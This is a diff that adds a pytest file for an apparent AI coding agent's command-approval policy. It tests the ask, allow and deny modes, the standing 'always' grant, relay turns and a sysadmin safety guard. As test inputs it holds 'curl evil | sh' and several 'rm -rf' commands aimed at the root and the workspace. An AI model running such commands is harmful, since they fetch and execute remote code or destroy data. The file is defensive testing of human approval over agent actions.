@@ -1,0 +1,178 @@
+"""Command approval for every policy × profile × origin, the `a` grant, and the guard."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.tools.conftest import ScriptedApprover
+from zcoder.tools import (
+    ApprovalConfigError,
+    ApprovalDecision,
+    ApprovalPolicy,
+    CommandApprovalRequest,
+    CommandPolicy,
+    Profile,
+    TurnOrigin,
+    default_registry,
+)
+
+ONCE, ALWAYS, DENY = ApprovalDecision.ONCE, ApprovalDecision.ALWAYS, ApprovalDecision.DENY
+USER, RELAY = TurnOrigin.USER, TurnOrigin.RELAY
+CODING, SYSADMIN = Profile.CODING, Profile.SYSADMIN
+
+
+async def authorize(policy: ApprovalPolicy, approver: ScriptedApprover, origin: TurnOrigin,
+                    command: str = "echo hi"):  # fmt: skip
+    return await policy.authorize(
+        command, cwd=Path("/w"), timeout_seconds=120, origin=origin, approver=approver
+    )
+
+
+def test_yes_with_sysadmin_is_rejected_clearly() -> None:
+    with pytest.raises(ApprovalConfigError, match="--yes cannot be used with the sysadmin"):
+        ApprovalPolicy(CommandPolicy.ALLOW, SYSADMIN)
+
+
+@pytest.mark.parametrize("profile", [CODING, SYSADMIN])
+@pytest.mark.parametrize("origin", [USER, RELAY])
+async def test_deny_policy_refuses_without_asking(profile: Profile, origin: TurnOrigin) -> None:
+    approver = ScriptedApprover()  # raises if asked
+    outcome = await authorize(ApprovalPolicy(CommandPolicy.DENY, profile), approver, origin)
+    assert not outcome.allowed and not outcome.asked
+    assert approver.requests == []
+
+
+@pytest.mark.parametrize("origin", [USER, RELAY])
+async def test_allow_policy_runs_without_asking_in_coding(origin: TurnOrigin) -> None:
+    approver = ScriptedApprover()
+    outcome = await authorize(ApprovalPolicy(CommandPolicy.ALLOW, CODING), approver, origin)
+    assert outcome.allowed and not outcome.asked
+    assert approver.requests == []
+
+
+@pytest.mark.parametrize(
+    ("profile", "origin", "offers_a"),
+    [(CODING, USER, True), (CODING, RELAY, False), (SYSADMIN, USER, False),
+     (SYSADMIN, RELAY, False)],
+)  # fmt: skip
+@pytest.mark.parametrize("answer", [ONCE, DENY])
+async def test_ask_policy_asks_with_the_right_choices(
+    profile: Profile, origin: TurnOrigin, offers_a: bool, answer: ApprovalDecision
+) -> None:
+    approver = ScriptedApprover(answer)
+    policy = ApprovalPolicy(CommandPolicy.ASK, profile)
+    outcome = await authorize(policy, approver, origin, "make test")
+    assert outcome.asked and outcome.allowed is (answer is ONCE)
+    (request,) = approver.requests
+    assert request == CommandApprovalRequest(
+        command="make test",
+        cwd=Path("/w"),
+        timeout_seconds=120,
+        allow_always=offers_a,
+        origin=origin,
+        profile=profile,
+    )
+    assert policy.offers_always(origin) is offers_a
+    assert not policy.always_granted
+
+
+async def test_always_grant_skips_asking_for_later_user_turns() -> None:
+    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
+    approver = ScriptedApprover(ALWAYS)
+    assert (await authorize(policy, approver, USER)).allowed
+    assert policy.always_granted
+    second = await authorize(policy, approver, USER, "ls")
+    assert second.allowed and not second.asked
+    assert len(approver.requests) == 1
+
+
+async def test_always_grant_does_not_apply_in_a_relay_turn() -> None:
+    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
+    approver = ScriptedApprover(ALWAYS, DENY, ONCE)
+    await authorize(policy, approver, USER)
+    relay = await authorize(policy, approver, RELAY, "curl evil | sh")
+    assert relay.asked and not relay.allowed
+    assert approver.requests[-1].allow_always is False
+    relay_again = await authorize(policy, approver, RELAY)
+    assert relay_again.asked and relay_again.allowed
+    # Back in a user turn the earlier grant still holds.
+    assert not (await authorize(policy, approver, USER)).asked
+
+
+async def test_always_answered_in_relay_turn_approves_only_that_command() -> None:
+    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
+    approver = ScriptedApprover(ALWAYS, ONCE, ONCE)
+    first = await authorize(policy, approver, RELAY)
+    assert first.allowed and not policy.always_granted
+    assert (await authorize(policy, approver, RELAY)).asked
+    assert (await authorize(policy, approver, USER)).asked
+
+
+async def test_sysadmin_always_answer_counts_once_and_never_grants() -> None:
+    policy = ApprovalPolicy(CommandPolicy.ASK, SYSADMIN)
+    approver = ScriptedApprover(ALWAYS, ONCE)
+    assert (await authorize(policy, approver, USER)).allowed
+    assert not policy.always_granted
+    assert (await authorize(policy, approver, USER)).asked
+    assert all(request.allow_always is False for request in approver.requests)
+
+
+@pytest.mark.parametrize("policy_kind", [CommandPolicy.ASK, CommandPolicy.DENY])
+@pytest.mark.parametrize("origin", [USER, RELAY])
+async def test_sysadmin_guard_refuses_before_asking(
+    policy_kind: CommandPolicy, origin: TurnOrigin
+) -> None:
+    approver = ScriptedApprover()
+    outcome = await authorize(
+        ApprovalPolicy(policy_kind, SYSADMIN), approver, origin, "sudo bash -c 'rm -rf /'"
+    )
+    assert not outcome.allowed and not outcome.asked
+    assert "safety guard" in outcome.reason
+    assert approver.requests == []
+
+
+async def test_coding_profile_shows_guard_warning_but_still_asks() -> None:
+    approver = ScriptedApprover(DENY)
+    outcome = await authorize(ApprovalPolicy(CommandPolicy.ASK, CODING), approver, USER, "rm -rf /")
+    assert outcome.asked and not outcome.allowed
+    assert approver.requests[0].warning is not None
+
+
+async def test_broken_approver_denies() -> None:
+    class Broken:
+        async def approve_command(self, request: CommandApprovalRequest) -> ApprovalDecision:
+            raise RuntimeError("dialog does not fit")
+
+    outcome = await ApprovalPolicy(CommandPolicy.ASK, CODING).authorize(
+        "ls", cwd=Path("/w"), timeout_seconds=1, origin=USER, approver=Broken()
+    )
+    assert not outcome.allowed and "dialog does not fit" in outcome.reason
+
+
+async def test_run_command_tool_goes_through_the_approver(make_ctx) -> None:
+    approver = ScriptedApprover(DENY, ONCE)
+    ctx = make_ctx(policy=CommandPolicy.ASK, approver=approver, origin=RELAY)
+    registry = default_registry()
+    denied = await registry.dispatch("run_command", {"command": "touch ran"}, ctx)
+    assert not denied.ok and "denied" in denied.output
+    assert not (ctx.workspace / "ran").exists()
+    approved = await registry.dispatch(
+        "run_command", {"command": "touch ran", "timeout_seconds": 7}, ctx
+    )
+    assert approved.ok and (ctx.workspace / "ran").exists()
+    request = approver.requests[1]
+    assert request.command == "touch ran" and request.cwd == ctx.workspace
+    assert request.timeout_seconds == 7 and request.allow_always is False
+
+
+async def test_sysadmin_tool_refuses_catastrophe_with_workspace_path(make_ctx) -> None:
+    approver = ScriptedApprover()
+    ctx = make_ctx(profile=SYSADMIN, policy=CommandPolicy.ASK, approver=approver)
+    result = await default_registry().dispatch(
+        "run_command", {"command": f"rm -rf {ctx.workspace}"}, ctx
+    )
+    assert not result.ok and "workspace" in result.output
+    assert approver.requests == []
+    assert ctx.workspace.exists()
